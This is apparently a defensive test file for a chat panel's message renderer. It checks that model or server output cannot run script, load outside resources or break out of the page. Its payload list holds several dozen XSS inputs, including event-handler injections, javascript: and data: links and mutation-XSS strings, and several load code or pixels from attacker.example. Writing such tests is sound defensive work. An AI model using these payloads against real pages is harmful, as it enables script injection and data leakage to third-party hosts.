// What a hostile model or server may write: nothing of it runs, nothing is fetched, and no link leaves by itself.

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { answered, answering, richAnswer, said, snapshot } from "./fixtures.js";
import { Bench, type PanelPage, words } from "./page.js";

let bench: Bench;

beforeAll(async () => {
  bench = await Bench.open();
});
afterAll(() => bench?.close());

const away = "https://attacker.example";
const payloads = [
  "<script>window.hacked = 1</script>",
  `<script src="${away}/x.js"></script>`,
  '<img src=x onerror="window.hacked = 1">',
  `<img src="${away}/pixel.gif">`,
  `![](${away}/pixel.gif)`,
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
  `<style>@import url("${away}/x.css"); * { background: url("${away}/y") }</style>`,
  `<link rel="stylesheet" href="${away}/x.css"><meta http-equiv="refresh" content="0;url=${away}"><base href="${away}">`,
  `<form action="${away}"><input name="q" autofocus onfocus="window.hacked = 1"><button formaction="javascript:window.hacked=1">go</button></form>`,
  '<a href="javascript:window.hacked=1" id="trap">click</a> [click](javascript:window.hacked=1)',
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  `<object data="${away}"></object><embed src="${away}"><video src="${away}" autoplay></video><audio src="${away}"></audio>`,
  '<div style="position:fixed;inset:0;background:url(https://attacker.example/z)" class="message" id="x">overlay</div>',
  '<details open ontoggle="window.hacked = 1"><summary>s</summary></details>',
  "<b title='x' onmouseover='window.hacked=1' data-testid='send-button'>b</b>",
  '<a href="https://example.org" onclick="window.hacked=1" target="_top" ping="https://attacker.example">ok</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  "<template><script>window.hacked = 1</script></template>",
  "```html\n<script>window.hacked = 1</script>\n```",
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  "[x]: javascript:window.hacked=1 'title'\n\n[x]",
  "<snowcell-chat></snowcell-chat><snowcell-code-block></snowcell-code-block><vscode-button>b</vscode-button>",
  "<!--><img src=x onerror=window.hacked=1>-->",
  "<img\nsrc=x\nonerror=window.hacked=1\n",
  "<x onclick=window.hacked=1 style=animation-name:blink onanimationstart=window.hacked=1>x",
];

/** What must not be in a message, and what ran or was asked for. */
async function harm(panel: PanelPage): Promise<unknown> {
  await panel.page.locator('[data-testid="message-body"]').last().waitFor();
  await panel.drawn();
  const found = await panel.page.evaluate(() => {
    const body = [...document.querySelectorAll(".message-body.markdown")].at(-1);
    const forbidden =
      "script, style, svg, math, iframe, object, embed, form, input, link, meta, base, img, video, audio, template";
    const elements = [...(body?.querySelectorAll(forbidden) ?? [])].map(({ nodeName }) => nodeName);
    const attributes = [...(body?.querySelectorAll("*") ?? [])]
      .filter((element) => !element.closest("snowcell-code-block"))
      .flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`))
      .filter(
        (attribute) =>
          !/^(dir=auto|(href|title)=(https?:|mailto:|x$)|align=|data-task=|class=table-frame|tabindex=0$)/.test(attribute),
      );
    const nested = body?.querySelectorAll("snowcell-chat, vscode-button").length;
    return { elements, attributes, nested, hacked: "hacked" in window };
  });
  const { violations, errors } = await panel.recorded();
  const requests = panel.requests.filter((address) => !address.startsWith("http://127.0.0.1"));
  return { ...found, violations, errors, requests, pages: panel.page.url().startsWith("http://127.0.0.1") };
}

const harmless = {
  ...{ elements: [], attributes: [], nested: 0, hacked: false },
  ...{ violations: [], errors: [], requests: [], pages: true },
};

describe("a hostile answer", () => {
  it.each(payloads)("does nothing when shown whole: %s", async (payload) => {
    const panel = await bench.page();
    await panel.snapshot(
      snapshot({ messages: [said("u1", payload), answered("m1", `before ${payload}\n\n${payload}\n\nafter`)] }),
    );
    expect(await harm(panel)).toEqual(harmless);
    await panel.close();
  });

  it("does nothing at any point of its stream", async () => {
    const panel = await bench.page();
    await panel.snapshot(snapshot({ messages: [answering("m1", "")], streams: [{ stream: 1, messageId: "m1" }] }));
    for (const piece of payloads.join("\n\n").match(/[\s\S]{1,9}/g) ?? []) {
      await panel.text(1, piece);
      await panel.drawn();
    }
    expect(await harm(panel)).toEqual(harmless);
    await panel.close();
  });

  it("cannot hide in what the person said, in names or in errors", async () => {
    const evil = '<img src=x onerror="window.hacked=1">';
    const panel = await bench.page();
    const failure = { kind: evil, title: evil, explanation: evil, actions: [{ action: evil, label: evil }] };
    const attachments = [{ id: evil, label: evil, tokens: 1 }];
    await panel.snapshot(
      snapshot({
        conversation: { id: "c", title: evil },
        messages: [
          said("u1", evil, { attachments }),
          answered("m1", "x", {
            author: evil,
            state: "error",
            failure,
            reasoning: evil,
            notices: [{ kind: "note", text: evil }],
          }),
        ],
        model: { id: evil, name: evil, providerName: evil },
        attachments,
      }),
    );
    expect(await harm(panel)).toEqual(harmless);
    expect(await words(panel.get("message-error"))).toContain(evil);
    await panel.close();
  });
});

describe("a link", () => {
  it("asks the host to open it, and says where it leads", async () => {
    const panel = await bench.page();
    await panel.snapshot(snapshot({ messages: [answered("m1", "[docs](https://example.org/a?b=c) and [file](src/a.ts:12)")] }));
    const links = panel.get("message-body").locator("a");
    expect(await links.first().getAttribute("title")).toBe("https://example.org/a?b=c");
    await links.first().click();
    await links.last().click({ button: "middle" });
    await links.last().focus();
    await panel.page.keyboard.press("Enter");
    expect(await panel.posts("open-link")).toEqual([
      { type: "open-link", href: "https://example.org/a?b=c" },
      { type: "open-link", href: "src/a.ts:12" },
      { type: "open-link", href: "src/a.ts:12" },
    ]);
    expect(panel.requests.filter((address) => address.includes("example.org"))).toEqual([]);
    expect(bench.browser.contexts().at(-1)?.pages()).toHaveLength(1);
    await panel.close();
  });
});

describe("the policy of the page", () => {
  it("is not violated by anything the panel does itself, the lazy highlighter included", async () => {
    const panel = await bench.page();
    await panel.snapshot(snapshot({ messages: [said("u1", "why?"), answered("m1", richAnswer)] }));
    await panel.page.locator("[data-highlighted] .hljs-keyword").first().waitFor();
    await panel.get("wrap-code").click();
    await panel.get("edit-button").click();
    expect(await panel.recorded()).toMatchObject({ violations: [], errors: [] });
    await panel.close();
  });
});
